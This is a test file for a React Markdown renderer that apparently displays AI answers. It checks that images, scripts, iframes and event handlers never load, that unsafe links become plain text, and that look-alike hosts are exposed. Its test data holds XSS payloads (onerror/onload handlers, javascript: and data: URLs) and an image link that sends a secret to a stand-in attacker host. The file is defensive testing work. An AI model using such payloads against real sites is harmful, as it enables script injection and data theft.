// @vitest-environment happy-dom
import { cleanup, render, screen } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, describe, expect, test } from 'vitest';
import Markdown from './Markdown';

afterEach(cleanup);

const show = (text: string) => render(<Markdown text={text} />).container;

describe('nothing in an answer loads or runs', () => {
  test.each([
    '![pixel](https://evil.example/p.png?q=secret)',
    '[![pixel](https://evil.example/p.png)](https://evil.example/)',
    '![ref][p]\n\n[p]: https://evil.example/p.png',
    '<img src="https://evil.example/p.png">',
    '<svg/onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '- <img src=x onerror=alert(1)>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '```html\n<img src=x onerror=alert(1)>\n```',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<https://evil.example/"onmouseover="alert(1)>',
  ])('%s', markdown => {
    const container = show(markdown);
    expect(
      container.querySelectorAll('img, script, iframe, object, embed, style, link, form, svg[onload]'),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^style$|^formaction$/);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });

  test('random Markdown and HTML', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      '](',
      '[',
      ')',
      '!',
      '`',
      'javascript:',
      'img src=',
      'onerror=',
      '\n',
      '\n\n',
      '- ',
      'https://e.example/',
      '|',
      '&#106;',
      'style=',
      'x',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), pieces => {
        const { container, unmount } = render(<Markdown text={pieces.join('')} />);
        expect(container.querySelector('img, script, iframe, style, [style], [onerror]')).toBeNull();
        for (const link of container.querySelectorAll('a'))
          expect(link.href).toMatch(/^(https?:\/\/|mailto:)/);
        unmount();
      }),
    );
  });
});

describe('links', () => {
  test('open in a new tab, tell nothing, and show where they lead', () => {
    show('See [your bank](https://evil.example/login?from=bank).');
    const link = screen.getByRole('link', { name: 'your bank' });
    expect(link.getAttribute('rel')).toBe('noreferrer noopener');
    expect(link.getAttribute('target')).toBe('_blank');
    screen.getByText('evil.example');
  });

  test('a bare address needs no second mention of its host', () => {
    const container = show('https://docs.example/page');
    expect(container.querySelectorAll('.link-host')).toHaveLength(0);
  });

  test('a look-alike host is shown in its true form', () => {
    show('[apple](https://аpple.example/)');
    screen.getByText(/^xn--/);
  });

  test.each([
    '[a](/options.html)',
    '[a](javascript:alert(1))',
    '[a](chrome-extension://x/y)',
    '[a](#top)',
    '[a](file:///etc/passwd)',
  ])('%s is text', markdown => {
    show(markdown);
    expect(screen.queryByRole('link')).toBeNull();
  });

  test('an image is a link to where it would have come from', () => {
    show('![a chart](https://img.example/c.png)');
    expect(screen.getByRole('link', { name: 'Image: a chart' }).getAttribute('href')).toBe(
      'https://img.example/c.png',
    );
    screen.getByText('img.example');
  });
});

describe('direction', () => {
  test('each block has its own; code is left to right', () => {
    const container = show('مرحبا `code`\n\n- بند\n\nEnglish\n\n```\nx\n```');
    const directions = [...container.querySelectorAll('p, ul, code, figure')].map(
      element => `${element.localName} ${element.getAttribute('dir')}`,
    );
    expect(directions).toEqual(['p auto', 'code ltr', 'ul auto', 'p auto', 'figure ltr', 'code null']);
  });
});

test('headings of an answer stand below the page’s own', () => {
  show('# A\n\n## B\n\n###### C');
  expect(screen.getAllByRole('heading').map(({ localName }) => localName)).toEqual(['h3', 'h4', 'h6']);
});
